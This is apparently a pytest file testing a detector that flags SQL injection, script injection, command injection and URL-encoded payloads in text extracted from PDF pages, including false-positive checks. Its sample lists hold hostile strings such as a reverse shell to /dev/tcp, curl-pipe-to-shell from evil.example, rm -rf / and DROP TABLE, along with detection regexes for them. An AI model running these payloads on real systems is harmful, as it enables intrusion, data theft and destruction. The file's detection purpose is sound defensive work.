"""Dangerous-content detector: each kind found, ordinary English and the clean corpus not."""

from __future__ import annotations

import random
import re
import unicodedata

import pypdfium2
import pytest

import content_safety
from content_safety import DangerousContent, apply_policy, findings_to_warnings, scan_text
from errors import ExtractionError

# Measured on the clean corpus (881 pages, pypdfium2 5.15.2): 0 pages flagged.
# The bound leaves a margin of 0.5 % of pages for corpus growth.
CORPUS_FLAGGED_PAGE_RATE_BOUND = 0.005

ATTACKS = [
    ("sql_injection", "Username: ' OR '1'='1"),
    ("sql_injection", 'password: " or 1=1 --'),
    ("sql_injection", "id=1') OR ('a'='a"),
    ("sql_injection", "login as admin'-- and skip the password"),
    ("sql_injection", "1 UNION SELECT username, password FROM users"),
    ("sql_injection", "1 union all select null,null--"),
    ("sql_injection", "x'; DROP TABLE users; --"),
    ("sql_injection", "1; delete from accounts where 1=1"),
    ("sql_injection", "'; exec master..xp_cmdshell 'dir'--"),
    ("sql_injection", "1' AND SLEEP(5)"),
    ("sql_injection", "Name: ’ OR ’1’=’1"),  # curly quotes from a word processor
    ("script_tag", "<script>alert(1)</script>"),
    ("script_tag", "< ScRiPt src=//evil.example/x.js>"),
    ("script_tag", "＜script＞alert(1)＜/script＞"),  # full-width
    ("script_tag", '<img src=x onerror="alert(1)">'),
    ("script_tag", "click javascript:alert(document.cookie)"),
    ("command_injection", "file.txt; rm -rf /"),
    ("command_injection", "name=$(curl http://evil.example/x)"),
    ("command_injection", "`cat /etc/passwd`"),
    ("command_injection", "curl -s http://evil.example/x.sh | sh"),
    ("command_injection", "make && curl http://evil.example/p | bash"),
    ("command_injection", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("url_encoding", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("url_encoding", "q=%27%20OR%201%3D1"),
    ("url_encoding", "..%2f..%2fetc%2fpasswd"),
    ("url_encoding", "%41%42%43%44%45%46%47%48%49%4A%4B"),
    ("url_encoding", "id=%2527%2520"),
]

ORDINARY = [
    "Please select the items from the list and union them.",
    "We drop the table from the schedule; select another one.",
    "The union of sets A and B; the intersection; the union select committee met.",
    "Get 50% off today, 20% off tomorrow, 100% satisfaction.",
    "Use rm to remove files, or rm -i to be careful; rm is short.",
    "Net loss of $(1,234) and $(0.12) per share; $(4), $31, and $(3).",
    "He said 'yes' -- then 'no' or 'maybe' -- and left.",
    "Tom's, the students' -- and James' books.",
    "JavaScript: The Good Parts is a book; see javascript.info.",
    "Compute $(a+b)$ and $(x)$ in LaTeX; the `quoted' text.",
    "Delete from the list; insert into the box; update the set of rules.",
    "He will cat | shows and echo chambers; a = b or c = c.",
    "The onload time = 3 s; on error = retry.",
    "See https://en.wikipedia.org/wiki/Caf%C3%A9 for details.",
    "drop table tennis; select drop-down menu.",
]


@pytest.mark.parametrize(("kind", "text"), ATTACKS)
def test_attack_is_found(kind, text):
    findings = scan_text([(7, "Some ordinary words first. " + text)])
    assert [(f["kind"], f["page"]) for f in findings] == [(kind, 7)]
    assert 0 < len(findings[0]["sample"]) <= 60


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_english_is_not_flagged(text):
    assert scan_text([(1, text)]) == []


def test_one_finding_per_kind_and_page():
    pages = [
        (1, "<script>a</script> <script>b</script> ' OR '1'='1"),
        (2, "plain"),
        (3, "<script>"),
    ]
    findings = scan_text(pages)
    assert sorted((f["kind"], f["page"]) for f in findings) == [
        ("script_tag", 1),
        ("script_tag", 3),
        ("sql_injection", 1),
    ]


def test_sample_is_sanitized_and_short():
    text = "\x00\x1b[31m<script>\n\n\talert(1)" + "A" * 200
    (finding,) = scan_text([(1, text)])
    assert finding["sample"].startswith("‹script› alert(1)AAA")
    assert len(finding["sample"]) == 60 and finding["sample"].endswith("…")
    assert not any(c in finding["sample"] for c in "<>\x00\x1b\n\t")


def test_warnings_name_the_pages():
    findings = scan_text([(2, "<script>"), (5, "x <script>"), (9, "'; DROP TABLE t; --")])
    assert findings_to_warnings(findings) == [
        "Text that looks like script injection (HTML/JavaScript) was found on pages 2, 5 "
        '(for example "‹script›").',
        "Text that looks like SQL injection was found on page 9 "
        '(for example "; DROP TABLE t; --").',
    ]


def test_many_pages_are_summarised():
    findings = scan_text([(n, "<script>") for n in range(1, 15)])
    assert "pages 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 and 4 more" in findings_to_warnings(findings)[0]


def test_policy():
    findings = scan_text([(3, "<script>")])
    assert apply_policy("off", findings) == ([], False)
    assert apply_policy("flag", []) == ([], False)
    warnings, reject = apply_policy("flag", findings)
    assert len(warnings) == 1 and "page 3" in warnings[0] and reject is False
    assert apply_policy("reject", findings) == (warnings, True)
    assert apply_policy("reject", []) == ([], False)
    with pytest.raises(ValueError):
        apply_policy("loud", findings)


def test_dangerous_content_error():
    error = DangerousContent()
    assert isinstance(error, ExtractionError)
    assert (error.code, error.status) == ("dangerous_content", 422)


def _corpus_pages(corpus) -> list[tuple[str, int, str]]:
    pages = []
    for path in sorted(corpus.glob("clean/*.pdf")):
        document = pypdfium2.PdfDocument(str(path))
        try:
            for index in range(len(document)):
                textpage = document[index].get_textpage()
                pages.append((path.name, index + 1, textpage.get_text_range()))
                textpage.close()
        finally:
            document.close()
    return pages


def test_clean_corpus_false_positive_rate(corpus):
    pages = _corpus_pages(corpus)
    flagged = [(name, page) for name, page, text in pages if scan_text([(page, text)])]
    assert len(pages) >= 800
    assert len(flagged) / len(pages) <= CORPUS_FLAGGED_PAGE_RATE_BOUND, flagged


def test_every_kind_has_a_name():
    assert set(content_safety.PATTERNS) == set(content_safety.KIND_NAMES)


# The bash|/dev/tcp|nc|/etc/ rule before it was split into one rule per alternative.
COMBINED_SHELL_RULE = r"\bbash\s+-i\s*>&|/dev/tcp/\d|\bnc\s+-[a-z]*e\s|/etc/(?:passwd|shadow)\b"
NOISE = ["a", "Z", "1", "_", "é", " ", "\n", "\t", "-", ";", "=", "<", "%", "'", '"', "(", ")"]
NOISE += ["’", "“", "”", "‘", "‚", "„", "＜", "ｒｍ", "bash", "nc", "rm", "x nc -e ", "--", "#"]
MORE_ATTACKS = ["<body onload=go()>", "a onclick = 'x'", "x' ; truncate table t;", "a'#", "a')/* b"]
MORE_ATTACKS += ["1; insert into t values (1)", "%2e%2e/x", "x%27 or 1", "rm -f ~/x", "</script"]
MORE_ATTACKS += ["eval(atob('x'))", "EVAL ( UNESCAPE('%41'))", "x=DOCUMENT.COOKIE"]
MORE_ATTACKS += ["echo x | sudo bash", "a;rm\t-rf /x", "nc\n-lve x"]


def _noisy_texts(count: int = 3000) -> list[str]:
    """Attack samples and ordinary sentences cut up and mixed with noise."""
    rng = random.Random(11)
    samples = [text for _, text in ATTACKS] + ORDINARY + MORE_ATTACKS
    texts = []
    for _ in range(count):
        sample = rng.choice(samples)
        cut = rng.randint(0, len(sample))
        parts = rng.choices(NOISE, k=rng.randint(0, 6))
        texts.append(sample[:cut] + "".join(parts) + sample[cut:])
    return texts + samples


def _first_match_without_prechecks(rules, text, lower):
    """``_first_match`` trying every triggered rule, whatever its ``needs`` and ``guard`` say."""
    hits = [rule.pattern.search(text) for rule in rules if any(t in lower for t in rule.triggers)]
    starts = [match.start() for match in hits if match]
    return min(starts) if starts else None


def test_needs_and_guards_skip_only_rules_that_cannot_match():
    found_in = {}
    for text in _noisy_texts():
        normal = content_safety._straight_quotes(unicodedata.normalize("NFKC", text))
        lower = normal.lower()
        for rules in content_safety.PATTERNS.values():
            match = content_safety._first_match(rules, normal, lower)
            start = None if match is None else match.start()
            assert start == _first_match_without_prechecks(rules, normal, lower), text
        for rule, part in _prechecks():
            for match in rule.pattern.finditer(normal):
                assert _holds(match.group(), part), (rule.pattern.pattern, text)
            found_in.setdefault(part, set()).add(_holds(normal, part))
    assert all(found == {True, False} for found in found_in.values())  # both paths ran


def _prechecks():
    """Yield each rule with its ``needs`` and its ``guard``."""
    for rules in content_safety.PATTERNS.values():
        for rule in rules:
            yield from ((rule, part) for part in (rule.needs, rule.guard) if part is not None)


def _holds(text, part):
    """Tell whether ``text`` holds ``part``: plain text or a regex."""
    return part in text if isinstance(part, str) else part.search(text) is not None


def test_split_shell_rules_find_what_the_combined_rule_found():
    combined = re.compile(COMBINED_SHELL_RULE)
    split = content_safety.PATTERNS["command_injection"][-4:]
    texts = _noisy_texts() + ["nc -e x", "anc -e x", "xbash -i >& y", "/etc/passwd", "/dev/tcp/1"]
    _assert_first_starts_equal(combined, split, texts)


# The tautology rule before it was split into one rule per opening quote.
COMBINED_TAUTOLOGY_RULE = r"""['"]\s*\)?\s*(?:or|and)\s+\(?\s*(['"]?)(\w+)\1\s*=\s*\1\2\b"""


def test_split_tautology_rules_find_what_the_combined_rule_found():
    combined = re.compile(COMBINED_TAUTOLOGY_RULE, re.IGNORECASE)
    split = content_safety.PATTERNS["sql_injection"][:2]
    texts = _noisy_texts() + ["\"' or 'a'='a", '\'" OR "1"="1', "x' and y=y"]
    _assert_first_starts_equal(combined, split, texts)


def _assert_first_starts_equal(combined, split, texts):
    """Assert the split rules' earliest match starts where the combined pattern's does."""
    for text in texts:
        starts = [match.start() for rule in split if (match := rule.pattern.search(text))]
        expected = combined.search(text)
        assert min(starts, default=None) == (expected and expected.start()), text


def test_straight_quotes_equals_translate():
    table = str.maketrans(content_safety._QUOTES)
    texts = _noisy_texts() + ["plain ascii", "naïve café", "“quoted” ‘both’ „low‚"]
    for text in texts:
        assert content_safety._straight_quotes(text) == text.translate(table)


def test_ten_escapes_rule_matches_where_it_did_before_it_started_with_a_literal():
    before = re.compile(r"(?:%[0-9A-Fa-f]{2}){10,}")
    (after,) = [rule.pattern for rule in content_safety.PATTERNS["url_encoding"][:1]]
    rng = random.Random(3)
    pieces = ["%", "%4", "%41", "%4g", "%fF", "%%", "a", " ", "\n", "%0A%0a"]
    texts = ["".join(rng.choices(pieces, k=rng.randint(0, 40))) for _ in range(20000)]
    for text in texts + ["%41" * 10, "%41" * 9, "x%41%41" * 6]:
        expected = before.search(text)
        found = after.search(text)
        assert (found and found.span()) == (expected and expected.span()), text


TRIGGERS = {
    trigger for rules in content_safety.PATTERNS.values() for r in rules for trigger in r.triggers
}


def test_trigger_view_holds_each_trigger_where_lower_does():
    texts = _noisy_texts() + ["sel—ect", "İnsert ınsert", "scrİpt", "\u212aill", "ΣΑΣ nc"]
    for text in texts:
        normal = content_safety._straight_quotes(unicodedata.normalize("NFKC", text))
        view, lower = content_safety._trigger_view(normal), normal.lower()
        assert {t for t in TRIGGERS if t in view} == {t for t in TRIGGERS if t in lower}, text


def test_only_dotted_i_and_kelvin_sign_lower_to_ascii():
    """What makes the trigger view exact, checked against this Python's Unicode tables."""
    to_ascii = {c for c in map(chr, range(0x80, 0x110000)) if any(x.isascii() for x in c.lower())}
    assert to_ascii == {"İ", "\u212a"}
    assert unicodedata.normalize("NFKC", "\u212a") == "K"
    for trigger in TRIGGERS:
        assert trigger.isascii() and trigger == trigger.lower(), trigger
        assert "?" not in trigger and not trigger.endswith("i"), trigger
